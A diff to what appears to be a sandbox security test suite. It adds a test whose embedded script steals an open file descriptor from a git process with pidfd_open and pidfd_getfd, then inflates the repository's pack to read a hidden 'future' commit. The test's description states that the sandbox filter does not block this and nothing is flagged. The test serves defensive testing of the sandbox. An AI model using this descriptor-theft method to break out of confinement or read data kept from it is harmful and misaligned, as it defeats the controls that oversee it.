@@ -19,6 +19,8 @@ works); one that is stopped is a passing test asserting it is stopped.
 from __future__ import annotations
 
 import json
+import os
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -125,6 +127,73 @@ def test_openat2_flags_rewritten_after_the_tracers_read(
     script = _LEAK + _HOW_REWRITE.format(decoy=decoy, flags=flags, tries=150)
     proc, audit = _run(tmp_path, script, _future_object, timeout=240)
     if "tries" not in _lines(proc):  # the attack did not run: not a pass
+        pytest.fail(proc.stdout + proc.stderr[-2000:])
+    _safe(proc, audit)
+
+
+#: the machine's git (exempt: its opens are gitread rows) reads the task repository's pack and
+#: keeps its descriptor (a pack bigger than one window); the phase takes that descriptor with
+#: pidfd_getfd, which no open of its own precedes, and inflates what the pack holds
+_STEAL_PACK = """\
+import ctypes, os, subprocess, sys, time, zlib
+sys.stdout.reconfigure(line_buffering=True)
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+r, w = os.pipe()
+os.set_blocking(w, False)
+try:
+    while True:  # a full pipe: git blocks on its first write, its pack still open
+        os.write(w, b"x" * 65536)
+except BlockingIOError:
+    pass
+os.set_blocking(w, True)
+git = subprocess.Popen(["git", "-c", "core.packedGitWindowSize=4k", "log", "-p"], stdout=w)
+time.sleep(1.5)
+pidfd = libc.syscall(434, git.pid, 0)  # pidfd_open
+print("pidfd", pidfd >= 0)
+for n in range(3, 64):
+    fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
+    if fd < 0:
+        continue
+    data = os.pread(fd, 4 << 20, 0)
+    for i in range(len(data)):
+        try:
+            text = zlib.decompressobj().decompress(data[i:]) if data[i] == 0x78 else b""
+        except zlib.error:
+            continue
+        if b"FUTURE" in text:
+            print("attack OK", text.decode("latin1").replace("\\n", " ").replace("\\x00", " "))
+            break
+print("done", True)
+git.kill()
+"""
+
+
+def _packed_with_a_big_blob(work: Path) -> None:
+    """Outside the box: a 300 KB blob committed on main, everything packed (git gc)."""
+    (work / "big.bin").write_bytes(os.urandom(300_000))
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "a",
+        "GIT_AUTHOR_EMAIL": "a@b",
+        "GIT_COMMITTER_NAME": "a",
+        "GIT_COMMITTER_EMAIL": "a@b",
+    }
+    for args in (["add", "big.bin"], ["commit", "-qm", "big"], ["gc", "-q"]):
+        subprocess.run(["git", "-C", str(work), *args], check=True, env=env)
+
+
+@pytest.mark.heavy
+@_works(
+    "pidfd_getfd is not refused by the sandbox's filter (process_vm_readv is): the phase runs "
+    "the machine's git (git -c core.packedGitWindowSize=4k log -p, blocked on a full pipe, so "
+    "it keeps the pack's descriptor open), takes that descriptor with pidfd_open + "
+    "pidfd_getfd and reads the whole pack: the future commit and blob, with no open of its "
+    "own and nothing flagged"
+)
+def test_a_descriptor_taken_from_the_machines_git(tmp_path: Path, seccomp: None) -> None:
+    proc, audit = _run(tmp_path, _STEAL_PACK, _packed_with_a_big_blob, timeout=120)
+    if "done" not in _lines(proc):  # the attack did not run: not a pass
         pytest.fail(proc.stdout + proc.stderr[-2000:])
     _safe(proc, audit)
 
